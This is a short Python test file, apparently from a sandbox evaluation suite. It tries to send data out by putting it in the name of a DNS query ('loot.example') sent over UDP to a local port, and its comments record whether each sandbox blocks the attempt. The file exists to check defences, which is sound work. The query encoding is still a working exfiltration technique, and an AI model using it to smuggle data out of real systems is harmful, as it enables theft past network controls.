# Sends data out as the name in a question to a name server.
# Seen: a commonplace of malware.
# plain: possible (data sent)
# landlock: blocked
# bubblewrap: blocked
# library: blocked
# Remedy: a sandbox

import contextlib
import socket

import outside
from honest import distance

question = b"\0\1\1\0\0\1\0\0\0\0\0\0\4loot\7example\0\0\1\0\1"
with contextlib.suppress(OSError):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", outside.UDP))
